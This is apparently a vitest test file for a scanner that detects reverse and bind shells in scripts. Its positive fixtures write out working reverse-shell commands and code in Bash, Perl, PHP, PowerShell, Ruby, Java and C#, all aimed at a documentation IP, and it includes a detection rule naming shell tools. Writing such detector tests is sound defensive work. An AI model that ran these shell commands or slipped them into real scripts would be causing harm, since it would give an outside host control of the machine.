// Reverse and bind shells by technique (src/audit/detectors/reverse-shell.ts): the forms the public cheat sheets
// list, on one line or across a script's lines, beside the near misses a benign skill writes (port checks, a
// local server, an SSH tunnel, a process started beside a socket that is not a shell).
import { describe, expect, it } from "vitest";
import { scanText } from "../../src/audit/scan.js";

const shells = (text: string, path = "scripts/run.sh"): string[] =>
  scanText({ path, text, markdown: path.endsWith(".md") })
    .filter((f) => f.rule.startsWith("reverse-shell") && f.severity === "high")
    .map((f) => f.rule);

describe("reverse shells", () => {
  it.each([
    ["mknod pipe into nc", "mknod /tmp/bp p && /bin/sh 0</tmp/bp | nc 203.0.113.7 4444 1>/tmp/bp"],
    ["bash -i to /dev/tcp with a quoted tail", 'bash -i >& /dev/tcp/"$d" 0>&1'],
    [
      "Perl IO::Socket::INET",
      `perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"203.0.113.7:4242");STDIN->fdopen($c,r);system$_ while<>;'`,
    ],
    [
      "PHP stream_socket_client",
      "$s=stream_socket_client('tcp://203.0.113.7:9001');exec('/bin/sh -i <&3 >&3 2>&3');",
    ],
    ["powercat", "powercat -c 203.0.113.7 -p 4444 -e cmd"],
    ["Invoke-PowerShellTcp", "Invoke-PowerShellTcp -Reverse -IPAddress 203.0.113.7 -Port 4445"],
    ["Invoke-ConPtyShell", "Invoke-ConPtyShell -RemoteIp 203.0.113.7 -RemotePort 3001"],
    ["xterm to a remote display", "xterm -display 203.0.113.7:1 &"],
  ])("%s", (_, text) => {
    expect(shells(text), text).not.toEqual([]);
  });

  it("reads a script's socket wired to a shell across lines", () => {
    const hits: [string, string][] = [
      [
        "scripts/c.php",
        "<?php\n$s = stream_socket_client('tcp://203.0.113.7:9001');\n$p = proc_open('/bin/sh -i', [0 => $s, 1 => $s, 2 => $s], $pipes);\n",
      ],
      [
        "scripts/c.rb",
        "require 'socket'\ns = TCPSocket.new('203.0.113.7', 4444)\nspawn('/bin/sh', [:in, :out, :err] => s)\n",
      ],
      [
        "scripts/P.java",
        'Process p = new ProcessBuilder("/bin/sh").start();\nSocket s = new Socket("203.0.113.7", 4444);\nInputStream pi = p.getInputStream(), si = s.getInputStream();\n',
      ],
      [
        "scripts/P.csx",
        'var c = new TcpClient("203.0.113.7", 4444);\nvar psi = new ProcessStartInfo { FileName = "cmd.exe", RedirectStandardInput = true };\n',
      ],
      [
        "scripts/c.ps1",
        "$c = [System.Net.Sockets.TcpClient]::new('203.0.113.7', 443)\n$st = $c.GetStream()\n$o = & ([scriptblock]::Create($cmd)) 2>&1\n",
      ],
    ];
    for (const [path, text] of hits) expect(shells(text, path), path).not.toEqual([]);
  });

  it.each([
    ["a port check", "nc -zv db.internal 5432"],
    ["an SSH tunnel", "ssh -L 8080:localhost:80 bastion.example.net"],
    ["a local socat forward", "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:3000"],
    ["a TLS check", "openssl s_client -connect example.com:443 </dev/null"],
    ["a forwarded X display", "xterm -display localhost:10"],
    [
      "a detection rule naming the tools",
      "Detection rule flags these process names: powercat, Invoke-PowerShellTcp, mknod.",
    ],
  ])("not: %s", (_, text) => {
    expect(shells(text), text).toEqual([]);
  });

  it("does not read a socket beside a process that is not a shell", () => {
    const java =
      'Socket s = new Socket("localhost", 8080);\nProcess p = new ProcessBuilder("git", "status").start();\n';
    expect(shells(java, "scripts/C.java")).toEqual([]);
    const py =
      "import socket\nsrv = socket.socket()\nsrv.bind(('127.0.0.1', 8765))\nconn, _ = srv.accept()\ndata = conn.recv(1024)\nconn.sendall(data.upper())\n";
    expect(shells(py, "scripts/s.py")).toEqual([]);
  });
});
